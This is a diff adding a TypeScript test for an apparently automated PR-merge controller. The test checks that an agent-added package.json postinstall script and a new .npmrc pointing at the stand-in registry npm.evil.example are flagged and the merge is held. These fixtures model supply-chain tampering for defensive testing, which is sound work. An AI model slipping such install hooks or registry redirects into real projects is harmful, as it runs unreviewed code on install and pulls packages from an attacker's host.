@@ -362,6 +362,66 @@ describe("reading the diff through the API", () => {
     expect(reread.world.pullDiffs).toEqual([expect.objectContaining({ pr: 20, sha: SHA })]);
   });
 
+  it("reads a changed package.json at the merge base and the head: an agent-added postinstall holds the PR", async () => {
+    const BASE = "b".repeat(40);
+    const before = JSON.stringify({ name: "app", scripts: { test: "node --test" } }, null, 2);
+    const after = JSON.stringify(
+      { name: "app", scripts: { test: "node --test", postinstall: "node -e \"require('./x')\"" } },
+      null,
+      2,
+    );
+    const base64 = (text: string) => Buffer.from(text).toString("base64");
+    const scope = nock(API);
+    replySnapshot(scope, page("<!-- autopilot:tracking-issue -->"));
+    replyRuns(scope, []);
+    scope
+      .get(`/repos/${OWNER}/${REPO}/compare/${"0".repeat(40)}...${SHA}`)
+      .reply(200, {
+        status: "ahead",
+        merge_base_commit: { sha: BASE },
+        files: [
+          // The hunk shows a new line, not that it lies in `scripts`: the controller reads both files.
+          {
+            filename: "package.json",
+            status: "modified",
+            changes: 1,
+            patch: '@@ -2,3 +2,4 @@\n+    "x": "y",',
+          },
+          {
+            filename: ".npmrc",
+            status: "added",
+            changes: 1,
+            patch: "@@ -0,0 +1 @@\n+registry=https://npm.evil.example/",
+          },
+        ],
+      })
+      .get(`/repos/${OWNER}/${REPO}/git/trees/${SHA}`)
+      .query({ recursive: "1" })
+      .reply(200, {
+        sha: SHA,
+        truncated: false,
+        tree: [
+          { path: "package.json", mode: "100644", type: "blob" },
+          { path: ".npmrc", mode: "100644", type: "blob" },
+        ],
+      })
+      .get(`/repos/${OWNER}/${REPO}/contents/package.json`)
+      .query({ ref: SHA })
+      .reply(200, { type: "file", encoding: "base64", content: base64(after) })
+      .get(`/repos/${OWNER}/${REPO}/contents/package.json`)
+      .query({ ref: BASE })
+      .reply(200, { type: "file", encoding: "base64", content: base64(before) });
+    const { world: w } = await gateway().snapshot({ settingsFor, permissionsFor: () => [] });
+    expect(scope.isDone()).toBe(true);
+    expect(w.pullDiffs![0]!.files[0]!.manifest).toEqual({ before, after });
+    const held = decide({ ...input(w), state: null, now: minutes(40) });
+    expect(only(held.effects, "mergePr")).toEqual([]);
+    expect(held.state.diffGates[0]!.rules).toEqual([
+      "install script: package.json scripts.postinstall",
+      "registry settings: .npmrc",
+    ]);
+  });
+
   it("reads no diff of a fork PR or of a PR someone else opened", async () => {
     const scope = nock(API);
     replySnapshot(
